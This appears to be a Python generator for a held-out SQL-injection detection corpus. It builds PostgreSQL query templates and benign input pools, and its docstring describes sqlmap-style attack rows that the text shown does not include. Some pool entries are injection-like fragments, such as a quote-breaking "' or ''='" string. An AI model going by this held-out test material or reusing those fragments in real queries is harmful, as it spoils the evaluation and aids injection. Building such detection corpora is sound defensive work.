#!/usr/bin/env python3
"""Generator for the tenth held-out sql-guard corpus (deterministic, stdlib only).

    python3 make_tenth.py [OUTPUT]      # default: tenth.jsonl.gz next to this file

Rows follow dev.jsonl's schema and family vocabulary (fields id, sql, label,
family, template, input, inputs, variant, dbms, multi_statement, split) in
about dev's proportions.  Everything here is new for this file:

* 65 application templates (`t10_*`) on tables that none of the earlier
  corpora use (beekeeping, ski lifts, observatory bookings, fisheries quota,
  theatre costumes, orchestra rehearsals, escape rooms, laundromats, dental
  charts, water hydrants, coworking desks, music royalties, excavations,
  tide gauges, lift maintenance, blood bank, climbing walls, ferries, pawn
  tickets, wind turbines, drone flight plans, kilns and glazes, parcel
  lockers, gritting runs, dog licences, festival wristbands, radio playout,
  dairy herds, manuscripts, pool lanes) and query shapes the earlier
  templates do not have (OVERLAPS, IS NOT DISTINCT FROM, SIMILAR TO, FETCH
  ... WITH TIES, GROUPING SETS / CUBE, daterange &&, jsonpath and XPath
  strings with the input inside, FOR SHARE / FOR NO KEY UPDATE NOWAIT, CALL,
  EXECUTE of a prepared statement, LISTEN, REFRESH MATERIALIZED VIEW,
  pg_notify, SET application_name, make_date / make_interval, COLLATE "C",
  `#>>` paths, crypt(), writable CTE INSERT, quoted schema-qualified table);
* sqlmap-style payloads rebuilt from its technique, boundary and tamper
  families (PostgreSQL, generic and foreign-dialect vectors, enumeration
  queries for --banner/--users/--passwords/--privileges/--dbs/--tables/
  --columns/--count/--dump/--search/--statements, takeover steps), with
  sqlmap's low-frequency delimiter alphabet and tamper scripts (between,
  greatest, least, equaltolike, randomcase, space2comment, space2randomblank,
  space2dash, commentbeforeparentheses, substring2leftright, unionalltounion,
  0eunion, misunion, sleep2getlock, if2case, escapequotes);
* hand-written PostgreSQL cores for every hand family, new complex benign
  generators (`cx10_*`, Django, SQLAlchemy, Hibernate 6, ActiveRecord,
  Sequelize, Prisma, TypeORM, GORM, EF Core, jOOQ, Ecto, Doctrine, Diesel,
  Laravel, Peewee, Sequel, Exposed, Drizzle, MikroORM, ...) and
  regression-test-style statements (`regress10:<file>.sql`).

Labelling: a filled template is an attack only when its token skeleton (the
lexer in corpus_kit.py: literals collapsed to their kind, everything else kept) is not
one of the skeletons of benign fills of the same template, i.e. the input
stopped being the single token its slot expects.  Comment-truncation rows
must in addition comment out template text that carries meaning.  Attack
strings escaped correctly for their slot are benign (`escaped_attack_string`).
Rows whose text occurs in one of the earlier corpora are skipped.

Checked once against PostgreSQL 15.18's raw parser (throwaway cluster, each
statement sent as `SELECT 1/0;` + statement in one simple query, so nothing
runs): every benign row parses; 988 of the 1,316 attacks parse and 328 do not
(foreign-dialect sqlmap vectors, sqlmap boundaries that do not fit the slot,
four comment truncations, one case-mixed sqlmap HAVING payload in an UPDATE).  There is no `parses` field, as in the seventh to
ninth corpora.
"""
import os, random, re, sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from corpus_kit import (ATTACK_TARGET, DOLLAR_TAG, HAND_FAMILIES, INPUT_TARGET, OBF_FAMILIES, SlotCorpus, backslash_quotes, by_template,  # noqa: E402
                        carries_meaning, chrs, double_quotes, lex, load_earlier, open_brackets, opts, opts_safe, q, quoted_end, randnum,
                        rdate, registry, regress_list, render, rword, slot_split)
import corpus_kit  # noqa: E402
from functools import partial  # noqa: E402

SEED = 1010101
HERE = os.path.dirname(os.path.abspath(__file__))
EARLIER = ("dev", "generalization", "blind", "holdout", "fresh", "sixth", "seventh", "eighth", "ninth")

# ---------------------------------------------------------------- application templates
# slot types: q '...', e E'...', d $msg$...$msg$, qi "...", n number, list numbers,
# bool, col (ORDER BY column), dir (ASC/DESC), ident (bare identifier).
# A third element in a slot spec lists options: "typed" (the literal is cast to
# a date/time/interval/uuid-like type: benign fills are formatted values only),
# "nodq" (the literal is a jsonpath/XPath string: no double quotes or backslashes).
T = [
 ("t10_hive_inspections", "SELECT inspected_on, brood_frames, temperament FROM hive_inspections WHERE hive_tag = '{a}' AND inspected_on >= current_date - interval '{b} days' ORDER BY inspected_on DESC",
  {"a": ("q", ["HV-0192", "NORTH-07", "orchard-3"]), "b": ("q", ["30", "180"], "typed")}),
 ("t10_honey_extraction", "INSERT INTO honey_extractions (apiary_code, extracted_on, kg_net, moisture_pct) VALUES ('{a}', '{b}'::date, {c}, {d}) ON CONFLICT (apiary_code, extracted_on) DO UPDATE SET kg_net = honey_extractions.kg_net + EXCLUDED.kg_net RETURNING extraction_id",
  {"a": ("q", ["AP-LINDEN", "AP-HEATHER-2"]), "b": ("q", ["2024-08-19", "2025-06-02"], "typed"), "c": ("n", ["41.6", "12"]), "d": ("n", ["17.8", "18.4"])}),
 ("t10_queen_lookup", "SELECT q.queen_id, q.marked_colour, s.site_name FROM queen_records q JOIN apiary_sites s ON s.site_id = q.site_id WHERE q.breeder_line IS NOT DISTINCT FROM '{a}' AND q.introduced_year = {b}",
  {"a": ("q", ["Buckfast B4", "Carnica Troiseck"]), "b": ("n", ["2024", "2022"])}),
 ("t10_hive_weights", "SELECT hive_tag, weight_kg FROM apiary_hives WHERE site_id = {a} AND weight_kg < {b}::numeric * 0.8 AND active = {c}",
  {"a": ("n", ["14", "302"]), "b": ("n", ["38.5", "52"]), "c": ("bool", ["true", "false"])}),
 ("t10_lift_scans", "SELECT gate_code, scanned_at FROM lift_gate_scans WHERE pass_uid = '{a}' AND scanned_at::date = '{b}' ORDER BY scanned_at FETCH FIRST {c} ROWS WITH TIES",
  {"a": ("q", ["SKI-7F3A-1190", "SKI-02BC-0044"]), "b": ("q", ["2025-02-14", "2024-12-28"], "typed"), "c": ("n", ["10", "3"], "", " ROWS WITH TIES")}),
 ("t10_pass_types", "SELECT type_code, price_eur FROM lift_pass_types WHERE season = '{a}' AND age_band = ANY (ARRAY[{b}]) ORDER BY price_eur",
  {"a": ("q", ["2024/25", "2025/26"]), "b": ("list", ["1, 2", "3", "2, 4, 5"])}),
 ("t10_piste_grooming", "UPDATE piste_grooming SET groomed_at = now(), snow_depth_cm = {a}, remark = '{b}' WHERE piste_code = '{c}' AND groomer_id = {d}",
  {"a": ("n", ["145", "80"]), "b": ("q", ["wind crust on upper section", "corduroy, fast"]), "c": ("q", ["RED-12", "BLUE-3A"]), "d": ("n", ["7", "21"])}),
 ("t10_telescope_nights", "SELECT booking_ref, target_name FROM telescope_bookings WHERE observing_night && daterange('{a}', '{b}', '[]') AND instrument = '{c}'",
  {"a": ("q", ["2025-03-01", "2024-10-10"], "typed"), "b": ("q", ["2025-03-07", "2024-10-12"], "typed"), "c": ("q", ["echelle", "wide-field CCD"])}),
 ("t10_frames_by_target", "SELECT frame_id, exposure_s, filter_band FROM observation_frames WHERE target_name SIMILAR TO '{a}' AND airmass < {b} ORDER BY {c} {d}",
  {"a": ("q", ["NGC 7%", "M3_"]), "b": ("n", ["1.5", "2"]), "c": ("col", ["exposure_s", "frame_id", "airmass"]), "d": ("dir", ["ASC", "DESC"])}),
 ("t10_catch_landings", "SELECT species_code, sum(live_weight_kg) FROM catch_landings WHERE vessel_reg = upper(trim('{a}')) AND landed_on BETWEEN SYMMETRIC '{b}' AND '{c}' GROUP BY GROUPING SETS ((species_code), ())",
  {"a": ("q", ["BF 412", "ss 77"]), "b": ("q", ["2024-01-01", "2025-03-31"], "typed"), "c": ("q", ["2024-06-30", "2025-01-01"], "typed")}),
 ("t10_quota_left", "SELECT stock_code, tonnes_allocated - tonnes_landed AS remaining FROM quota_allocations WHERE producer_org = '{a}' AND quota_year = {b} AND stock_code LIKE '{c}' || '%'",
  {"a": ("q", ["SFO-NORTH", "Anglo-Scottish PO"]), "b": ("n", ["2025", "2024"]), "c": ("q", ["COD", "HAD/"])}),
 ("t10_costume_fit", "SELECT fitting_at, costume_ref, notes FROM costume_fittings WHERE performer_name = '{a}' AND production_code = '{b}' ORDER BY fitting_at",
  {"a": ("q", ["Imogen Reyes", "Tobias Kwarteng"]), "b": ("q", ["TEMPEST-25", "CARMEN-24"])}),
 ("t10_costume_stock", "SELECT costume_ref, size_label FROM costume_stock WHERE tags @> ARRAY['{a}']::text[] AND chest_cm BETWEEN {b} AND {c}",
  {"a": ("q", ["regency", "velvet"]), "b": ("n", ["86", "94"]), "c": ("n", ["102", "110"])}),
 ("t10_rehearsal_absent", "SELECT player_id FROM rehearsal_attendance WHERE call_id = {a} AND status = '{b}' EXCEPT SELECT player_id FROM instrument_loans WHERE returned_on IS NULL",
  {"a": ("n", ["5521", "88"]), "b": ("q", ["absent", "late"])}),
 ("t10_orchestra_parts", "SELECT part_label, pages FROM orchestra_parts WHERE work_catalogue = '{a}' AND section = '{b}' ORDER BY part_label COLLATE \"C\"",
  {"a": ("q", ["BWV 1068", "Op. 68"]), "b": ("q", ["strings", "brass"])}),
 ("t10_escape_slots", "SELECT slot_start, room_theme FROM escape_room_slots WHERE venue_code = '{a}' AND slot_start >= '{b}'::timestamptz AND party_max >= {c} AND NOT booked ORDER BY slot_start LIMIT 12",
  {"a": ("q", ["ESC-SHOREDITCH", "ESC-GLASGOW"]), "b": ("q", ["2025-04-12 18:00", "2024-11-30 10:30+00"], "typed"), "c": ("n", ["4", "6"])}),
 ("t10_wash_cycle", "INSERT INTO wash_cycles (machine_no, card_uid, programme, started_at) VALUES ({a}, '{b}', '{c}', now()) RETURNING cycle_id, expected_end",
  {"a": ("n", ["12", "3"]), "b": ("q", ["LC-004471", "LC-190022"]), "c": ("q", ["cotton 40", "delicates"])}),
 ("t10_laundry_card", "UPDATE laundry_cards SET balance_cents = balance_cents - {a} WHERE card_uid = '{b}' AND balance_cents >= {a} RETURNING balance_cents",
  {"a": ("n", ["350", "120"]), "b": ("q", ["LC-004471", "LC-000013"])}),
 ("t10_dental_chart", "SELECT tooth_fdi, surface, condition_code FROM tooth_chart WHERE patient_ref = '{a}' AND tooth_fdi = ANY ('{{b}}'::int[])",
  {"a": ("q", ["DP-55810", "DP-00913"]), "b": ("q", ["11,12,21", "36"], "typed", "}'::int[])")}),
 ("t10_dental_claims", "SELECT claim_no, amount_claimed FROM dental_claims WHERE insurer_code = '{a}' AND submitted_on >= date_trunc('quarter', '{b}'::date) ORDER BY {c}",
  {"a": ("q", ["DENPLAN", "BUPA-D"]), "b": ("q", ["2025-02-10", "2024-07-01"], "typed"), "c": ("col", ["submitted_on", "amount_claimed", "claim_no"])}),
 ("t10_hydrant_tests", "SELECT hydrant_id, static_psi, residual_psi FROM hydrant_flow_tests WHERE district = '{a}' AND tested_on > now() - make_interval(months => {b})",
  {"a": ("q", ["Ward 6", "Riverside"]), "b": ("n", ["12", "36"])}),
 ("t10_leak_report", "INSERT INTO leak_reports (reported_by, street, house_no, description, severity) VALUES ('{a}', '{b}', '{c}', E'{d}', {e})",
  {"a": ("q", ["resident", "meter-reader-12"]), "b": ("q", ["Gorse Lane", "Quay Street"]), "c": ("q", ["14B", "3"]), "d": ("e", ["water pooling by the kerb", "hissing under the pavement"]), "e": ("n", ["2", "4"])}),
 ("t10_desk_free", "SELECT desk_code, zone FROM coworking_desks WHERE floor_no = {a} AND desk_code NOT IN (SELECT desk_code FROM desk_reservations WHERE during && tstzrange('{b}', '{c}'))",
  {"a": ("n", ["3", "11"]), "b": ("q", ["2025-05-06 09:00", "2024-09-17 13:00"], "typed"), "c": ("q", ["2025-05-06 17:30", "2024-09-17 18:00"], "typed")}),
 ("t10_pod_booking", "WITH ins AS (INSERT INTO pod_bookings (pod_code, member_id, during) VALUES ('{a}', {b}, tstzrange('{c}', '{d}')) RETURNING booking_id) SELECT booking_id FROM ins",
  {"a": ("q", ["POD-QUIET-2", "POD-CALL-7"]), "b": ("n", ["40911", "512"]), "c": ("q", ["2025-01-20 10:00", "2024-12-03 15:00"], "typed"), "d": ("q", ["2025-01-20 11:00", "2024-12-03 15:30"], "typed")}),
 ("t10_royalty_statements", "SELECT period, gross_cents, payee_share FROM royalty_statements WHERE payee_ref = '{a}' AND period >= '{b}' ORDER BY period DESC LIMIT {c}",
  {"a": ("q", ["PAY-OKAFOR-01", "PAY-LUND-77"]), "b": ("q", ["2024-01", "2023-07"], "typed"), "c": ("n", ["12", "24"])}),
 ("t10_track_streams", "SELECT territory, sum(play_count) FROM track_streams WHERE isrc = '{a}' AND stream_date >= '{b}' GROUP BY CUBE (territory) HAVING sum(play_count) >= {c}",
  {"a": ("q", ["GBARL2400117", "USUM72301234"]), "b": ("q", ["2025-01-01", "2024-06-15"], "typed"), "c": ("n", ["1000", "50"])}),
 ("t10_royalty_meta", "SELECT statement_id FROM royalty_statements WHERE meta ->> '{a}' IS NOT NULL AND meta #>> '{dsp,name}' = '{b}'",
  {"a": ("q", ["isrc_batch", "currency"]), "b": ("q", ["Deezer", "Apple Music"])}),
 ("t10_find_register", "SELECT find_no, material, depth_m FROM excavation_finds WHERE trench_code = '{a}' AND context_no = {b} AND material = ANY (regexp_split_to_array('{c}', '[;,] *'))",
  {"a": ("q", ["TR-04", "SE-EXT"]), "b": ("n", ["1043", "7"]), "c": ("q", ["bone; flint", "ceramic,glass"])}),
 ("t10_trench_notes", "UPDATE dig_trenches SET supervisor_note = $msg${a}$msg$, last_visit = current_date WHERE trench_code = '{b}'",
  {"a": ("d", ["backfilled the sondage", "section drawn, photos taken"]), "b": ("q", ["TR-04", "TR-11"])}),
 ("t10_tide_obs", "SELECT observed_at, height_m FROM tide_observations WHERE station_id = '{a}' AND observed_at AT TIME ZONE '{b}' >= '{c}' ORDER BY observed_at LIMIT 200",
  {"a": ("q", ["NEWLYN", "8518750"]), "b": ("q", ["Europe/London", "America/New_York"]), "c": ("q", ["2025-03-29 00:00", "2024-08-01"], "typed")}),
 ("t10_tide_window", "EXECUTE tide_window('{a}', {b})",
  {"a": ("q", ["AVONMOUTH", "9414290"]), "b": ("n", ["48", "6"])}),
 ("t10_elevator_faults", "SELECT fault_code, count(*) - count(resolved_at) AS open_faults FROM elevator_faults WHERE unit_serial = '{a}' AND reported_at >= '{b}' GROUP BY fault_code",
  {"a": ("q", ["KONE-88123", "OTIS-4471-B"]), "b": ("q", ["2025-01-01", "2024-03-15"], "typed")}),
 ("t10_elevator_log", "SELECT logged_at, technician, work_done FROM elevator_service_logs WHERE building_ref = '{a}' AND logged_at >= '{b}' AND technician <> '{c}' ORDER BY logged_at DESC",
  {"a": ("q", ["BLD-CANARY-3", "BLD-0912"]), "b": ("q", ["2024-10-01", "2025-02-20"], "typed"), "c": ("q", ["contractor", "j.mbeki"])}),
 ("t10_blood_units", "SELECT unit_no, expires_on FROM blood_units WHERE abo_group = '{a}' AND rh_factor = '{b}' AND expires_on > current_date + {c} AND NOT quarantined ORDER BY expires_on FOR SHARE",
  {"a": ("q", ["O", "AB"]), "b": ("q", ["neg", "pos"]), "c": ("n", ["2", "7"])}),
 ("t10_donor_visit", "INSERT INTO donor_visits (donor_ref, clinic_code, haemoglobin_gdl, deferred) VALUES ('{a}', '{b}', {c}, {d})",
  {"a": ("q", ["DNR-3318207", "DNR-0045521"]), "b": ("q", ["CL-LEEDS", "CL-MOBILE-4"]), "c": ("n", ["13.6", "12.1"]), "d": ("bool", ["false", "true"])}),
 ("t10_climb_routes", "SELECT route_id, grade, setter FROM climbing_routes WHERE wall_code = '{a}' AND grade_rank BETWEEN {b} AND {c} AND stripped_on IS NULL ORDER BY grade_rank",
  {"a": ("q", ["CAVE", "SLAB-EAST"]), "b": ("n", ["4", "10"]), "c": ("n", ["9", "15"])}),
 ("t10_ascent_log", "INSERT INTO ascent_logs (member_no, route_id, style, attempts, logged_at) SELECT {a}, route_id, '{b}', {c}, now() FROM climbing_routes WHERE route_id = {d} AND stripped_on IS NULL",
  {"a": ("n", ["71203", "18"]), "b": ("q", ["flash", "redpoint"]), "c": ("n", ["1", "6"]), "d": ("n", ["3391", "207"])}),
 ("t10_ferry_sailings", "SELECT sailing_id, departs_at, car_spaces_left FROM ferry_sailings WHERE route_code = '{a}' AND departs_at::date = make_date({b}, {c}, {d}) ORDER BY departs_at",
  {"a": ("q", ["OBN-CRN", "ARD-BRO"]), "b": ("n", ["2025", "2024"]), "c": ("n", ["7", "12"]), "d": ("n", ["19", "3"])}),
 ("t10_deck_booking", "UPDATE deck_bookings SET vehicle_reg = '{a}', vehicle_len_m = {b} WHERE booking_ref = '{c}' AND sailing_id = {d} RETURNING xmin",
  {"a": ("q", ["SK19 XPT", "YD70 KLM"]), "b": ("n", ["4.7", "6.9"]), "c": ("q", ["FB-22L7Q", "FB-9C01A"]), "d": ("n", ["88120", "415"])}),
 ("t10_pawn_search", "SELECT ticket_no, item_desc, loan_pence FROM pawn_tickets WHERE to_tsvector('simple', item_desc) @@ plainto_tsquery('simple', '{a}') AND branch_code = '{b}'",
  {"a": ("q", ["gold chain", "camera lens"]), "b": ("q", ["PB-ANGEL", "PB-DERBY"])}),
 ("t10_pawn_renew", "CALL renew_pawn_ticket('{a}', {b})",
  {"a": ("q", ["PT-2025-004411", "PT-2024-118020"]), "b": ("n", ["30", "90"])}),
 ("t10_turbine_alarms", "SELECT alarm_code, raised_at FROM turbine_alarms WHERE turbine_id = {a} AND severity >= {b} AND raised_at > now() - {c} * interval '1 hour' ORDER BY raised_at DESC",
  {"a": ("n", ["4107", "12"]), "b": ("n", ["2", "3"]), "c": ("n", ["24", "6"])}),
 ("t10_blade_inspect", "SELECT blade_pos, erosion_grade FROM blade_inspections WHERE turbine_id IN (SELECT turbine_id FROM wind_turbines WHERE site_code = '{a}') AND inspected_on >= '{b}'",
  {"a": ("q", ["WF-DOGGER-B", "WF-WHITELEE"]), "b": ("q", ["2024-05-01", "2023-11-20"], "typed")}),
 ("t10_drone_plans", "SELECT plan_id, pilot_ref, max_alt_m FROM drone_flight_plans WHERE zone_code = '{a}' AND (planned_start, planned_end) OVERLAPS ('{b}'::timestamptz, interval '{c}')",
  {"a": ("q", ["FRZ-EGLL-3", "OPEN-A2"]), "b": ("q", ["2025-06-01 07:00+01", "2024-09-09 12:00"], "typed", "', interval '1 hour')"), "c": ("q", ["2 hours", "45 minutes"], "typed")}),
 ("t10_kiln_firings", "SELECT firing_id, cone, peak_c FROM kiln_firings WHERE kiln_no = {a} AND glaze_code = '{b}' ORDER BY fired_at DESC OFFSET {c} ROWS FETCH NEXT {d} ROWS ONLY",
  {"a": ("n", ["2", "5"]), "b": ("q", ["TENMOKU-3", "CELADON"]), "c": ("n", ["0", "20"], "", " ROWS"), "d": ("n", ["20", "10"], "", " ROWS ONLY")}),
 ("t10_glaze_json", "SELECT recipe_id, name FROM glaze_recipes WHERE jsonb_path_exists(ingredients, '$[*] ? (@.material == \"{a}\")') AND cone_max >= {b}",
  {"a": ("q", ["custer feldspar", "EPK kaolin"], "nodq", "\")')"), "b": ("n", ["6", "10"])}),
 ("t10_locker_deposit", "INSERT INTO locker_deposits (bank_code, compartment, courier_ref, pin_hash) VALUES ('{a}', {b}, '{c}', crypt('{d}', gen_salt('bf')))",
  {"a": ("q", ["LKR-KINGSX-04", "LKR-SALFORD-1"]), "b": ("n", ["17", "3"]), "c": ("q", ["DPD-7781220", "EVRI-00412"]), "d": ("q", ["402913", "771100"])}),
 ("t10_locker_free", "SELECT compartment, size_class FROM parcel_lockers WHERE bank_code = '{a}' AND size_class >= '{b}' AND occupied IS FALSE ORDER BY size_class, compartment LIMIT 1 FOR NO KEY UPDATE NOWAIT",
  {"a": ("q", ["LKR-KINGSX-04", "LKR-LEITH"]), "b": ("q", ["M", "S"])}),
 ("t10_gritting_runs", "SELECT run_id, route_code, salt_tonnes FROM gritting_runs WHERE depot = '{a}' AND started_at >= '{b}' AND salt_tonnes > {c} ORDER BY {d} {e} NULLS LAST",
  {"a": ("q", ["DEPOT-PENRITH", "DEPOT-BUXTON"]), "b": ("q", ["2025-01-05", "2024-12-18 03:00"], "typed"), "c": ("n", ["0", "2.5"]),
   "d": ("col", ["started_at", "salt_tonnes", "route_code"]), "e": ("dir", ["DESC", "ASC"])}),
 ("t10_dog_licence", "SELECT licence_no, dog_name, breed FROM dog_licences WHERE owner_postcode = replace(upper('{a}'), ' ', '') AND lower(dog_name) = lower('{b}')",
  {"a": ("q", ["ls6 2ab", "EH7 5QT"]), "b": ("q", ["Biscuit", "Mr Pickles"])}),
 ("t10_wristband_taps", "SELECT tapped_at, bar_code, amount_cents FROM wristband_taps WHERE wristband_uid = '{a}' AND festival_day = {b} ORDER BY tapped_at",
  {"a": ("q", ["WB-04F1C2A9", "WB-7700EE01"]), "b": ("n", ["1", "3"])}),
 ("t10_setlist", "SELECT position, song_title FROM stage_setlists WHERE stage_slot_id = {a} AND song_title ILIKE '{b}' ORDER BY position",
  {"a": ("n", ["902", "41"]), "b": ("q", ["%river%", "intro"])}),
 ("t10_playout", "SELECT aired_at, cart_no, duration_s FROM playout_logs WHERE station_call = '{a}' AND aired_at >= '{b}' AND aired_at < '{b}'::timestamp + interval '1 day' AND cart_no LIKE '{c}%'",
  {"a": ("q", ["KQED", "RADIO-FORTH"]), "b": ("q", ["2025-03-03", "2024-07-22"], "typed"), "c": ("q", ["AD-", "JNG"])}),
 ("t10_ad_spots", "UPDATE ad_spots SET status = '{a}', confirmed_by = '{b}' WHERE spot_id = {c} AND status = 'pencilled'",
  {"a": ("q", ["confirmed", "released"]), "b": ("q", ["traffic.desk", "s.oyelaran"]), "c": ("n", ["66120", "903"])}),
 ("t10_milk_yields", "SELECT animal_tag, avg(litres) AS avg_l FROM milk_yields WHERE parlour_code = '{a}' AND milked_at >= '{b}' GROUP BY animal_tag HAVING avg(litres) < {c}",
  {"a": ("q", ["PARLOUR-A", "ROTARY-2"]), "b": ("q", ["2025-02-01", "2024-09-01"], "typed"), "c": ("n", ["18", "24.5"])}),
 ("t10_cheese_wheels", "SELECT wheel_no, batch_code, turned_at FROM cheese_wheels WHERE ripening_room = '{a}' AND made_on < current_date - {b} AND extract(isodow FROM turned_at) = {c}",
  {"a": ("q", ["CAVE-2", "ROOM-B"]), "b": ("n", ["90", "180"]), "c": ("n", ["1", "4"])}),
 ("t10_folio_images", "SELECT image_id, side, dpi FROM folio_images WHERE shelfmark = '{a}' AND folio_no = '{b}' AND dpi >= {c}",
  {"a": ("q", ["MS Harley 2253", "Cod. Sang. 390"]), "b": ("q", ["12r", "104v"]), "c": ("n", ["400", "600"])}),
 ("t10_folio_scribe", "SELECT folio_no FROM manuscript_folios WHERE xmlexists('//hand[@scribe=\"{a}\"]' PASSING BY VALUE tei_xml) AND shelfmark = '{b}'",
  {"a": ("q", ["scribe-B", "Hartker"], "nodq", "\"]' PASSING BY VALUE tei_xml)"), "b": ("q", ["MS Harley 2253", "Cod. Sang. 390"])}),
 ("t10_treatment_note", "UPDATE conservation_treatments SET treatment_log = treatment_log || jsonb_build_object('at', now(), 'by', '{a}', 'note', '{b}') WHERE treatment_id = {c}",
  {"a": ("q", ["r.castellanos", "conservator-2"]), "b": ("q", ["humidified and flattened", "consolidated flaking ink"]), "c": ("n", ["3302", "45"])}),
 ("t10_lane_booking", "SELECT lane_no, session_start FROM lane_bookings WHERE pool_code = '{a}' AND session_start::time BETWEEN '{b}' AND '{c}' AND swimmer_level = {d}",
  {"a": ("q", ["POOL-50M", "LIDO"]), "b": ("q", ["06:30", "12:00"], "typed"), "c": ("q", ["08:00", "13:30"], "typed"), "d": ("n", ["2", "3"])}),
 ("t10_listen_channel", "LISTEN {a}",
  {"a": ("ident", ["locker_events", "ferry_updates", "kiln_alarms"])}),
 ("t10_refresh_mv", "REFRESH MATERIALIZED VIEW CONCURRENTLY {a}",
  {"a": ("ident", ["mv_daily_catch", "mv_lift_usage", "mv_royalty_totals"])}),
 ("t10_tenant_export", "SELECT * FROM tenant_exports.\"{a}\" LIMIT 100",
  {"a": ("qi", ["catch_2024", "Lift Usage Q1"])}),
 ("t10_app_name", "SET application_name = '{a}'",
  {"a": ("q", ["locker-api", "kiln-scheduler"])}),
 ("t10_notify", "SELECT pg_notify('{a}', '{b}')",
  {"a": ("q", ["locker_events", "ferry_updates"]), "b": ("q", ["compartment 17 opened", "{\"sailing\": 88120, \"delay_min\": 25}"])}),
]
TAG = "$msg$"
CLOSER = {"q": "'", "e": "'", "d": TAG, "qi": '"'}
STRING_TYPES = ("q", "e", "d", "qi")
CANON = {"q": ["x", "", "O'Brien", "two words", "2025-01-01", "45%", "it's"], "e": ["x", "", "it's", "back\\slash", "tab\there", "line\nbreak"],
         "d": ["x", "", "it's", "say \"hi\""], "qi": ["x", "a \"b\" c", "Q1 2025"], "n": ["1", "0", "-3", "2.75", "250000", "0.5"],
         "list": ["1", "1, 2", "4,5,6", "7, 8, 9, 10"], "bool": ["true", "false", "TRUE", "False"],
         "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))


@by_template
def slot_info(tpl, slot):
    """Paren depth at the slot, LIKE context, and whether the template text
    after the slot (and its closing quote) carries meaning."""
    pre, post, toks, rest = slot_split(tpl, slot, CLOSER)
    stack, ctx, _ = open_brackets(toks)
    sp = tpl[2][slot]
    return {"type": sp[0], "depth": len(stack), "like_before": pre.endswith("%"), "like_after": post.startswith("%"),
            "tail_means": carries_meaning(rest), "orig": sp[1], "opts": opts(tpl, slot),
            "closers": "".join(reversed(stack)), "ctx": ctx, "lead": lex(tpl[1])[0][1],
            "prev_word": next((v for k, v in reversed(toks) if k == "W"), ""), "next_word": next((v for k, v in lex(rest)), ""),
            "hand_close": sp[3] if len(sp) > 3 else None}


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Ó Súilleabháin", "Seán O'Faoláin", "Ngozi D'Souza", "Bras d'Or Lake", "Pointe-à-Pitre d'en Haut", "Mary-Kate O'Dowd",
   "Hawai'i Island", "miller's thumb", "Saint-Jean-d'Angély", "Ma'alot", "T'Challa Udaku", "Gulf of Saint Lawrence's mouth", "O'Keeffe & Merritt",
   "Côte d'Azur Dairy", "Dell'Acqua", "Carrick-on-Shannon's quay", "Rock 'n' Roll Hall", "N'Djamena", "Bo'ness", "L'Anse aux Meadows", "Ni'ihau",
   "A'Court", "D''Arcy", "fishermen's co-op"],
 "input_plain": ["honey frames", "queen cell", "groomed piste", "wide field", "velvet cape", "brass section", "spin cycle", "molar crown",
   "fire hydrant", "quiet pod", "b-side", "flint scraper", "spring tide", "car deck", "gold locket", "blade tip", "kiln shelf",
   "parcel drop", "rock salt", "border collie", "main stage", "jingle", "milking shed", "vellum leaf", "fast lane", "wax capping"],
 "input_numeric_string": ["0007", "12.50", "3e2", "-0", "2025", "+44", "0.000", "00", "7,25", "10_000", "98765432109876543210", "1.", ".5"],
 "input_formatted": ["2025-04-18T06:15:00Z", "9b2d7e1c-0f4a-4c3e-8d21-7a5b6c4d3e2f", "NL91ABNA0417164300", "+1 (415) 555-0142", "BATCH-25-117/C",
   "06:45", "EH7 5QT", "15.2.1", "€1.299,00", "4111-XXXX-XXXX-1111", "2025-01-31", "198.51.100.23", "AB12 CDE", "979-8-88763-012-4",
   "1.234.567,89", "#1f7a8c", "/v2/lockers/LKR-LEITH/compartments/17", "55°57'N 3°11'W", "FY2025/26", "P3DT4H", "0x7F00_0001", "ISRC GB-ARL-24-00117",
   "2024-12-24 23:59:59.999+00", "10/04/2025", "IMO 9811000", "ICD-11 DA08.0", "HV-0192-B", "v=spf1 -all", "N 51.5072, W 0.1276", "ºC 1260"],
 "input_unicode": ["Zoë Ångström", "上海市浦东新区", "Ελληνικά", "Здравствуйте", "snow ❄ day", "مرحبا بكم", "smørrebrød", "Şanlıurfa",
   "ＳＥＬＥＣＴ　＊", "soft\u00adhyphen", "≤ 10 ≥ 2", "ﬂour", "Straße", "e\u0301", "한국어 텍스트", "ᐃᓄᒃᑎᑐᑦ", "Ærøskøbing", "Ísafjörður", "ትግርኛ", "🐝 hive 3",
   "Tōkyō-to", "Việt Nam", "ñandutí", "Œuvre"],
 "input_json_text": ['{"hive": "HV-0192", "frames": 9}', '[{"note": "it\'s fine"}]', '{"where": "a=1 and b=2"}', 'false', '{"sql": "DELETE FROM x"}',
   '{"path": "C:\\\\kiln\\\\log.txt"}', '{"t": -1.25e2, "x": null}', '["/*", "--", ";"]', '{"s": "\' or \'\'=\'"}', '{}', '{"a": [1, [2, [3]]]}',
   '{"union": "select", "from": "dual"}'],
 "input_url_email": ["https://lockers.example.org/l/LKR-LEITH?c=17&src=sms", "mailto:tide+alerts@example.net", "ftp://files.example.com/kiln/2025/",
   "d'arcy.keane@example.ie", "https://example.com/search?q=union+select+from", "http://[2001:db8::42]:9090/metrics",
   "tel:+353-1-555-0199", "https://example.org/faq#drop-off", "x@y.io", "https://example.net/a%2Fb;param=1?x=%27"],
 "input_sql_words": ["Union Square", "Select Car Leasing", "Drop Zone Skydive", "Outer Join Brewing", "Table Bay", "Insert Card Here", "Sleep Clinic",
   "Where Eagles Dare", "Order of St John", "Grant Thornton", "Execute Dance Crew", "Null Hypothesis", "Like Minds Cafe", "From Russia with Love",
   "Case Study 4", "Having Fun Ltd", "Exec Suites", "Truncate Lane", "Update pending", "Delete Your Account Day", "Or Akiva", "And So It Goes",
   "Create Space", "Alter Ego Salon", "Declare Independence", "Cast Away", "Begin Again", "Commit to Fitness", "Rollback Prices"],
 "input_punctuation": ["?!", ";", "***", "\\\\", "#7", "99%", "(tbc)", "[ok]", "{y}", "<n/a>", "x;y", "---", "/* */", "&", "…", "¿qué?",
   "@ops", "£15", "a=b", "'single'", "\"double\"", "|", ":", "$x$", "_%", "3/4", "~", "^^", "`tick`"],
 "input_whitespace": ["  indented", "trailing  ", "tab\tseparated", "first\nsecond", "\n", "lots    of    space", "  ", "\tlead tab",
   "ends in newline\n", "cr\r\nlf", " \t "],
}
